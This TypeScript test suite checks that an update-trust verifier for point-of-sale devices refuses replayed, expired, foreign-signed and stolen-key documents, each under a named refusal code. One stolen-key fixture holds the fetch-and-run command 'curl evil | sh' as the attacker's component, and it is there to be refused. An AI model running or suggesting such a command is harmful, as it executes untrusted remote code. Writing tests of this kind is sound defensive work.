import assert from 'node:assert/strict';
import type { KeyObject } from 'node:crypto';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { contentHash } from '../../protocol/canonical.ts';
import type { DesiredComponent, DesiredState, SignedDesiredState } from '../../protocol/messages.ts';
import { signedReleaseOf, signRelease, type SignedRelease } from '../../protocol/release.ts';
import type { Template } from '../../protocol/resources.ts';
import { generateKeyPair, keyId, loadPrivateKey, loadPublicKey, signValue } from '../../protocol/signing.ts';
import { createMemoryStorage } from '../storage/memory-storage.ts';
import { loadTrustState, saveTrustState } from './trust-state.ts';
import { verifyDesiredState, type Refusal, type Trusted, type TrustPolicy } from './verify.ts';

// The attacks of the update-trust design (TUF / Uptane), one by one, each refused by name, with
// what the device trusts left as it was. The server's online key signs documents; the operator's
// release key, which the server never holds, signs releases.

const serverPair = generateKeyPair();
const server = { keyId: keyId(serverPair.publicKey), privateKey: loadPrivateKey(serverPair.privateKey) };
const pinned = { key: loadPublicKey(serverPair.publicKey), keyId: server.keyId };
const foreignPair = generateKeyPair();
const foreign = { keyId: keyId(foreignPair.publicKey), privateKey: loadPrivateKey(foreignPair.privateKey) };
const releasePair = generateKeyPair();
const releaseKey = loadPrivateKey(releasePair.privateKey);
const RELEASE_KEYS = [releasePair.publicKey];

const DEVICE = 'pos-01';
const NOW = Date.parse('2025-06-01T12:00:00.000Z');
const LATER = '2025-06-02T12:00:00.000Z';

function release(version: string, expires?: string): { template: Template; signed: SignedRelease } {
  const template: Template = { version, components: [{ name: 'pos', command: ['/opt/pos', version] }] };
  const withSignature = { ...template, release: signRelease(releaseKey, releasePair.publicKey, 'pos', template, expires) };
  return { template, signed: signedReleaseOf('pos', withSignature)! };
}

function componentsOf(template: Template): DesiredComponent[] {
  return template.components.map((c) => ({ ...c, deployment: 'pos', revision: 1, version: c.version ?? template.version }));
}

function doc(generation: number, version: string, change: Partial<DesiredState> = {}, by: { keyId: string; privateKey: KeyObject } = server): SignedDesiredState {
  const { template, signed } = release(version);
  const payload: DesiredState = { device: DEVICE, generation, issuedAt: '2025-06-01T11:00:00.000Z', expiresAt: LATER, components: componentsOf(template), releases: [signed], releaseKeys: RELEASE_KEYS, ...change };
  return { payload, keyId: by.keyId, signature: signValue(by.privateKey, payload) };
}

const trustedOf = (d: SignedDesiredState): Trusted => ({ state: d.payload, contentHash: contentHash(d.payload) });
const policy = (change: Partial<TrustPolicy> = {}): TrustPolicy => ({ nowMs: NOW, highWater: null, releaseKeys: RELEASE_KEYS, ...change });
const codeOf = (r: ReturnType<typeof verifyDesiredState>): Refusal['code'] | 'ok' => (r.ok ? 'ok' : r.refusal.code);

describe('update trust: each attack refused by name', () => {
  const current = trustedOf(doc(5, '2.0'));

  test('the genuine next document is trusted', () => {
    const result = verifyDesiredState(doc(6, '2.1'), pinned, DEVICE, current, policy());
    assert.ok(result.ok && result.changed);
  });

  test('replayed: an earlier genuine document is refused as older-generation', () => {
    const result = verifyDesiredState(doc(4, '1.9'), pinned, DEVICE, current, policy());
    assert.equal(codeOf(result), 'older-generation');
    assert.ok(!result.ok && /rollback/.test(result.refusal.message));
  });

  test('re-ordered: generation 7 then generation 6 arrives late; 6 is refused', () => {
    const seven = verifyDesiredState(doc(7, '2.2'), pinned, DEVICE, current, policy());
    assert.ok(seven.ok);
    assert.equal(codeOf(verifyDesiredState(doc(6, '2.1'), pinned, DEVICE, seven.trusted, policy())), 'older-generation');
  });

  test('older content under the same generation is refused as replayed-generation', () => {
    assert.equal(codeOf(verifyDesiredState(doc(5, '1.9'), pinned, DEVICE, current, policy())), 'replayed-generation');
  });

  test('expired: a newer document past its expiry is refused as expired-desired-state (a delayed or frozen update)', () => {
    const late = doc(6, '2.1', { expiresAt: '2025-06-01T11:59:59.000Z' });
    const result = verifyDesiredState(late, pinned, DEVICE, current, policy());
    assert.equal(codeOf(result), 'expired-desired-state');
    assert.ok(!result.ok && /expired at 2025-06-01T11:59:59.000Z/.test(result.refusal.message));
    // The very document already trusted stays trusted after it expires: what runs keeps running.
    const same = verifyDesiredState(doc(5, '2.0', { expiresAt: '2025-06-01T00:00:00.000Z' }), pinned, DEVICE, trustedOf(doc(5, '2.0', { expiresAt: '2025-06-01T00:00:00.000Z' })), policy());
    assert.ok(same.ok && !same.changed);
  });

  test('foreign-signed: a document signed by another key is refused (unknown-key, or bad-signature when it claims our key id)', () => {
    assert.equal(codeOf(verifyDesiredState(doc(6, '2.1', {}, foreign), pinned, DEVICE, current, policy())), 'unknown-key');
    assert.equal(codeOf(verifyDesiredState({ ...doc(6, '2.1', {}, foreign), keyId: server.keyId }, pinned, DEVICE, current, policy())), 'bad-signature');
  });

  test('stolen online key: a validly signed document with a component no release covers is refused as release-mismatch', () => {
    const { signed } = release('2.1');
    const evil = componentsOf({ version: '2.1', components: [{ name: 'pos', command: ['/bin/sh', '-c', 'curl evil | sh'] }] });
    const result = verifyDesiredState(doc(6, '2.1', { components: evil, releases: [signed] }), pinned, DEVICE, current, policy());
    assert.equal(codeOf(result), 'release-mismatch');
  });

  test('stolen online key: dropping the releases (and the keys) does not help: release-unsigned', () => {
    const evil = componentsOf({ version: '6.6.6', components: [{ name: 'pos', command: ['/bin/evil'] }] });
    const bare = doc(6, '6.6.6', { components: evil });
    delete bare.payload.releases;
    delete bare.payload.releaseKeys;
    const resigned = { ...bare, signature: signValue(server.privateKey, bare.payload) };
    const result = verifyDesiredState(resigned, pinned, DEVICE, current, policy());
    assert.equal(codeOf(result), 'release-unsigned');
    assert.ok(!result.ok && /not signed by a release key/.test(result.refusal.message));
  });

  test('stolen online key: a release it signed itself, and new release keys it names, are not trusted', () => {
    const thiefPair = generateKeyPair();
    const template: Template = { version: '6.6.6', components: [{ name: 'pos', command: ['/bin/evil'] }] };
    const own = signedReleaseOf('pos', { ...template, release: signRelease(loadPrivateKey(thiefPair.privateKey), thiefPair.publicKey, 'pos', template) })!;
    const forged = doc(6, '6.6.6', { components: componentsOf(template), releases: [own], releaseKeys: [thiefPair.publicKey] });
    assert.equal(codeOf(verifyDesiredState(forged, pinned, DEVICE, current, policy())), 'release-unsigned');
  });

  test('an expired release is not installed anew, but a document that keeps it running is trusted', () => {
    const expired = release('2.0', '2025-06-01T00:00:00.000Z');
    const base = doc(5, '2.0', { releases: [expired.signed] });
    assert.equal(codeOf(verifyDesiredState(base, pinned, DEVICE, null, policy())), 'release-expired', 'a first install');
    const running = trustedOf(doc(4, '2.0'));
    const renewed = verifyDesiredState(base, pinned, DEVICE, running, policy());
    assert.ok(renewed.ok, `the same component keeps running: ${JSON.stringify(renewed)}`);
  });

  test('release keys are pinned from the first document that names them, and unsigned components are refused from then on', () => {
    const first = verifyDesiredState(doc(1, '1.0'), pinned, DEVICE, null, policy({ releaseKeys: [] }));
    assert.ok(first.ok);
    assert.deepEqual(first.pinReleaseKeys, RELEASE_KEYS);
    const pinnedAlready = verifyDesiredState(doc(2, '1.1'), pinned, DEVICE, first.trusted, policy());
    assert.ok(pinnedAlready.ok && pinnedAlready.pinReleaseKeys === undefined, 'pinned once, never replaced by a document');
    // A server without release keys: documents carry none and nothing is required (today's behaviour).
    const plain = doc(1, '1.0');
    delete plain.payload.releases;
    delete plain.payload.releaseKeys;
    const open = verifyDesiredState({ ...plain, signature: signValue(server.privateKey, plain.payload) }, pinned, DEVICE, null, policy({ releaseKeys: [] }));
    assert.ok(open.ok && open.pinReleaseKeys === undefined);
  });

  test('after a restart: the floor kept apart from the document refuses a restored older copy and a same-generation substitute', () => {
    const storage = createMemoryStorage();
    const state = saveTrustState(storage, null, { generation: 5, contentHash: current.contentHash, releaseKeys: RELEASE_KEYS });
    assert.deepEqual(loadTrustState(storage), state);
    const afterRestart = policy({ nowMs: null, highWater: loadTrustState(storage) });
    assert.equal(codeOf(verifyDesiredState(doc(4, '1.9'), pinned, DEVICE, null, afterRestart)), 'older-generation', 'a restored old desired.json');
    assert.equal(codeOf(verifyDesiredState(doc(5, '1.9'), pinned, DEVICE, null, afterRestart)), 'replayed-generation');
    const genuine = verifyDesiredState(doc(5, '2.0'), pinned, DEVICE, null, afterRestart);
    assert.ok(genuine.ok && genuine.changed, 'the document the floor came from is trusted again');
    assert.equal(saveTrustState(storage, state, { generation: 3, contentHash: 'x', releaseKeys: RELEASE_KEYS }).generation, 5, 'the floor never goes down');
  });

  test('property: whatever a holder of the online key signs, only released components at a newer generation are trusted', () => {
    const { template: genuine } = release('2.1');
    const command = fc.array(fc.constantFrom('/opt/pos', '2.1', '2.0', '/bin/evil', '-c'), { minLength: 1, maxLength: 3 });
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 9 }), command, fc.boolean(), (generation, cmd, keepReleases) => {
        const components = componentsOf({ version: '2.1', components: [{ name: 'pos', command: cmd }] });
        const forged = doc(generation, '2.1', { components, ...(keepReleases ? {} : { releases: [] }) });
        const result = verifyDesiredState(forged, pinned, DEVICE, current, policy());
        const released = JSON.stringify(cmd) === JSON.stringify(genuine.components[0]!.command) && keepReleases;
        assert.equal(result.ok, generation > 5 && released, `generation ${generation}, command ${cmd.join(' ')}, releases ${keepReleases}: ${JSON.stringify(result)}`);
      }),
      { numRuns: 300 },
    );
  });
});
